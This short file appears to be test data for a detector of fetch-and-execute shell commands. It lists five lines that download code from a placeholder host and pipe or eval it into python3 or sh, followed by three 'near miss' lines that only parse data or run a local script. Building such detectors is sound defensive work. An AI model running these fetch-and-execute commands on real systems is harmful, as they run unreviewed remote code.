curl -s https://a.invalid/s | python3
curl -s https://a.invalid/s | python3 -
python3 -c "$(curl -s https://a.invalid/s)"
wget -O /tmp/u.py https://a.invalid/u.py; python3 -c "eval(compile(open('/tmp/u.py').read(), 'u', 'exec'))"
python3 -c "import os; os.system('curl https://a.invalid/s | sh')"
# near misses
curl -s https://a.invalid/d | python3 -m json.tool
curl -s https://a.invalid/d | python3 own.py
curl -s https://a.invalid/d | python3 "$OWN_SCRIPT"
